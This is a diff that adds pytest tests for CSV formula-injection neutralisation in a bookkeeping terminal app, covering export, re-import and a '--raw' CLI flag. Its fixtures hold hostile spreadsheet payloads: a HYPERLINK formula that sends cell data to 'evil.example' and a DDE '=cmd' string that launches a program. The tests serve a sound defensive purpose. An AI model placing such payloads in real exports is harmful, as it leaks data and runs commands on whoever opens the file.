@@ -30,7 +30,7 @@ from bookkeeper_tui.core.revenue import Sub, levels_from_subscriptions, mrr_from
 from bookkeeper_tui.io.calendar import build_calendar, clean_text, write_ics
 from bookkeeper_tui.io.export import export_rows, write_export
 from bookkeeper_tui.io.fields import KINDS, field_names
-from bookkeeper_tui.store.book import BookError
+from bookkeeper_tui.store.book import Book, BookError
 from bookkeeper_tui.store.state import effective_due
 from tests.conftest import TODAY
 
@@ -594,3 +594,109 @@ def test_every_kind_round_trips_through_the_importer(rich_book, book, tmp_path):
     for kind in IMPORT_ORDER:
         again = importer.import_file(book, kind, files[kind], today=TODAY)
         assert (again.created, again.updated) == (0, 0), kind
+
+
+# -- spreadsheet formulas (issue 13, point 7) -------------------------------------------------
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"click me")'
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        (FORMULA_NAME, "'" + FORMULA_NAME),
+        ("+1 555 0100", "'+1 555 0100"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\tcmd", "'\tcmd"),
+        ("\rcmd", "'\rcmd"),
+        ("\uff1d1+1", "'\uff1d1+1"),
+        ("'=already quoted", "''=already quoted"),
+        ("'plain quote", "'plain quote"),
+        ("Acme = Corp", "Acme = Corp"),
+        ("", ""),
+        # numbers, dates and booleans are not text: never touched
+        (-120.0, "-120"),
+        (-0.5, "-0.5"),
+        (date(2026, 1, 1), "2026-01-01"),
+        (True, "true"),
+        (None, ""),
+    ],
+)
+def test_csv_cells_neutralise_formulas_but_not_numbers(value, written):
+    from bookkeeper_tui.core.text import unneutralise_formula
+    from bookkeeper_tui.io.export import csv_value
+
+    assert csv_value(value) == written
+    if isinstance(value, str):
+        assert csv_value(value, raw=True) == value
+        assert unneutralise_formula(written) == value  # what the importer reads back
+    else:
+        assert csv_value(value, raw=True) == written
+
+
+def _formula_book(book):
+    """Accounts whose text would run as formulas in a spreadsheet; one has no external id,
+    so other kinds point at it by its name."""
+    book.add_account(FORMULA_NAME, "smb", date(2026, 1, 1), mrr=100, owner="+maya")
+    book.add_account(
+        "@Globex", "enterprise", date(2025, 6, 1), mrr=900, external_id="-42", industry="-"
+    )
+    book.add_account("'=quoted", "smb", date(2026, 2, 1), mrr=50, source="=1+1")
+    book.log(f"{FORMULA_NAME[:10]} call with =Ann \"=cmd|' /C calc'!A0\"", TODAY)
+    return book
+
+
+def test_csv_export_neutralises_formulas_by_default(book):
+    _formula_book(book)
+    _, rows = _csv(book, "accounts")
+    by_name = {r["name"]: r for r in rows}
+    assert set(by_name) == {"'" + FORMULA_NAME, "'@Globex", "''=quoted"}
+    assert by_name["'" + FORMULA_NAME]["owner"] == "'+maya"
+    assert by_name["'@Globex"]["external_id"] == "'-42"
+    assert by_name["'@Globex"]["industry"] == "'-"
+    assert by_name["''=quoted"]["source"] == "'=1+1"
+    _, rows = _csv(book, "interactions")
+    assert rows[0]["account"] == "'" + FORMULA_NAME
+    assert rows[0]["contact"] == "'=Ann"
+    assert rows[0]["summary"] == "'=cmd|' /C calc'!A0"
+    _, subs = _csv(book, "subscriptions")
+    assert {s["mrr"] for s in subs} == {"100", "900", "50"}  # numbers stay numbers
+    # JSON is not a spreadsheet format: its values are exactly as stored.
+    assert {r["name"] for r in _json(book, "accounts")} == {FORMULA_NAME, "@Globex", "'=quoted"}
+
+
+def test_neutralised_export_round_trips_through_the_importer(book, tmp_path, backend):
+    from bookkeeper_tui.io.importer import import_file
+
+    _formula_book(book)
+    other = Book.open(str(tmp_path / "other.db"))
+    try:
+        for kind in IMPORT_ORDER:
+            path = tmp_path / f"{kind}.csv"
+            with path.open("w", encoding="utf-8", newline="") as out:
+                write_export(book, kind, "csv", out)
+            report = import_file(other, kind, path, today=TODAY)
+            assert not report.rejected, (kind, report.rejected[:3])
+        for kind in IMPORT_ORDER:
+            assert export_rows(other, kind)[1] == export_rows(book, kind)[1], kind
+    finally:
+        other.close()
+
+
+def test_cli_export_raw_keeps_formulas_as_they_are(cli, book, tmp_path):
+    _formula_book(book)
+    r = cli("export", "accounts")
+    assert r.code == 0, r.err
+    names = {row["name"] for row in csv.DictReader(io.StringIO(r.out))}
+    assert names == {"'" + FORMULA_NAME, "'@Globex", "''=quoted"}
+    path = tmp_path / "raw.csv"
+    r = cli("export", "accounts", "--raw", "-o", str(path))
+    assert r.code == 0, r.err
+    with path.open(encoding="utf-8", newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    assert {row["name"] for row in rows} == {FORMULA_NAME, "@Globex", "'=quoted"}
+    assert {row["owner"] for row in rows} == {"+maya", ""}
+    # --raw is about CSV cells: JSON and the calendar are the same with it or without.
+    assert cli("export", "accounts", "--format", "json", "--raw").json() == (
+        cli("export", "accounts", "--format", "json").json()
+    )
